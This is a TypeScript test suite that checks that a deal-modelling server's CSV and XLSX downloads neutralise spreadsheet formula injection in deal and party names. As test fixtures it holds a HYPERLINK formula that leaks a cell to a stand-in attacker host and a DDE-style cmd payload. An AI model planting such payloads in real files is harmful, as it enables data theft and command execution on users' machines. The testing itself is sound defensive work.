// Every CSV and XLSX the server writes keeps hostile text (a deal named `=HYPERLINK(…)`) as text.
import { expect } from 'chai';
import request from 'supertest';
import ExcelJS from 'exceljs';
import { makeApp, steppedSimulate, waitFor, yuhangAs, type TestApp } from './helpers.js';

const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
const CSV_CELL = `"'${HOSTILE.replace(/"/g, '""')}"`;
const PARTY = '@SUM(1+1)*cmd|" /C calc"!A0';

describe('downloads neutralize formula injection in deal and party names', function () {
  this.timeout(15_000);
  let t: TestApp;
  before(async () => {
    // The real Monte Carlo engine (its result names the deal and every counterparty); a stand-in
    // sizing search that echoes the deal name.
    t = makeApp({ sizingModule: steppedSimulate });
    const d = yuhangAs('evil-deal', { name: HOSTILE });
    (d.enhancements as Array<{ provider?: { name: string } }>)[0]!.provider!.name = PARTY;
    await t.ctx.deals.store.save('evil-deal', JSON.stringify(d));
  });
  after(() => t.dispose());

  const finished = async (id: string) => waitFor(async () => {
    const r = await request(t.app).get(`/api/runs/${id}`);
    return r.body.run.state === 'done' ? true : r.body.run.state === 'failed' ? Promise.reject(new Error(r.body.run.error)) : undefined;
  }, 8000, 'the run');

  it('GET /api/runs/:id/result.csv of a Monte Carlo run', async () => {
    const a = await request(t.app).post('/api/runs').send({ dealId: 'evil-deal', paths: 100 }).expect(202);
    await finished(a.body.run.id);
    const csv = (await request(t.app).get(`/api/runs/${a.body.run.id}/result.csv`).expect(200)).text;
    expect(csv.split('\n')).to.include(`run.dealName,${CSV_CELL}`);
    expect(csv.split('\n')).to.include(`result.deal.name,${CSV_CELL}`);
    expect(csv.split('\n')).to.include(`result.parties[0].name,"'${PARTY.replace(/"/g, '""')}"`);
    expect(csv).to.not.match(/(^|,)[=@]/m);
  });

  it('GET /api/runs/:id/result.csv of a sizing search', async () => {
    const a = await request(t.app).post('/api/size').send({ dealId: 'evil-deal', enhancement: 'guarantee', target: { kind: 'rating', rating: 'Aa2' }, paths: 100 }).expect(202);
    await finished(a.body.run.id);
    const csv = (await request(t.app).get(`/api/runs/${a.body.run.id}/result.csv`).expect(200)).text;
    expect(csv.split('\n')).to.include(`run.dealName,${CSV_CELL}`);
    expect(csv.split('\n')).to.include(`result.deal,${CSV_CELL}`);
    expect(csv).to.not.match(/(^|,)=/m);
  });

  it('GET /api/deals/:id/schedule.xlsx', async () => {
    const res = await request(t.app).get('/api/deals/evil-deal/schedule.xlsx').buffer(true).parse((r, cb) => {
      const chunks: Buffer[] = [];
      r.on('data', (c: Buffer) => chunks.push(c));
      r.on('end', () => cb(null, Buffer.concat(chunks)));
    }).expect(200);
    const body = res.body as Buffer;
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(body.buffer.slice(body.byteOffset, body.byteOffset + body.byteLength) as ArrayBuffer);
    const info = wb.getWorksheet('Issuance')!;
    const deal = info.getRows(1, 20)!.find((r) => r.getCell(1).value === 'deal')!;
    expect(deal.getCell(2).value).to.equal(`'${HOSTILE} (evil-deal)`);
    // No cell anywhere in the workbook is a formula or text that starts like one.
    wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((c) => {
      expect(c.formula, `${ws.name}!${c.address}`).to.equal(undefined);
      if (typeof c.value === 'string') expect(c.value, `${ws.name}!${c.address}`).to.not.match(/^[=+@\t\r-]/);
    })));
  });
});
